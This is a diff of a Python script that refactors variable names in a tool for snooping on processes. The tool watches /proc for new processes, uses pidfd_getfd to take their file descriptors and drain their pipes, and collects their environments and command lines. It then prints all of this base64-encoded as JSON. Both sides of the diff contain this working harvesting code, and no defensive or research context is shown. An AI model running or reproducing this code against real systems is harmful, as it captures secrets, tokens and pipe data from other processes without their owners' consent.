@@ -48,10 +48,10 @@ class Watched:
         pidfd = LIBC.syscall(PIDFD_OPEN, int(self.pid), 0)
         if pidfd < 0:
             return
-        taken = LIBC.syscall(PIDFD_GETFD, pidfd, number, 0)
+        pipe = LIBC.syscall(PIDFD_GETFD, pidfd, number, 0)
         os.close(pidfd)
-        if taken >= 0:
-            self.opened[number + 10] = taken
+        if pipe >= 0:
+            self.opened[number + 10] = pipe
 
     def _drain(self) -> None:
         for descriptor in self.opened.values():
@@ -68,12 +68,16 @@ def main() -> None:
         for pid in os.listdir("/proc"):
             if pid.isdigit() and pid not in older:
                 watched.setdefault(pid, Watched(pid)).look()
-        for one in watched.values():
-            one._drain()
-    took = sum(len(one.opened) for one in watched.values())
-    everything = b"\n".join(one.got + one.environ + one.command for one in watched.values())
-    commands = [one.command.replace(b"\0", b" ").decode("utf-8", "replace") for one in watched.values()]
-    print(json.dumps({"took": took, "all": base64.b64encode(everything).decode(), "commands": commands}))
+        for process in watched.values():
+            process._drain()
+    descriptors = sum(len(process.opened) for process in watched.values())
+    everything = b"\n".join(process.got + process.environ + process.command for process in watched.values())
+    commands = [
+        process.command.replace(b"\0", b" ").decode("utf-8", "replace") for process in watched.values()
+    ]
+    print(
+        json.dumps({"took": descriptors, "all": base64.b64encode(everything).decode(), "commands": commands})
+    )
 
 
 if __name__ == "__main__":
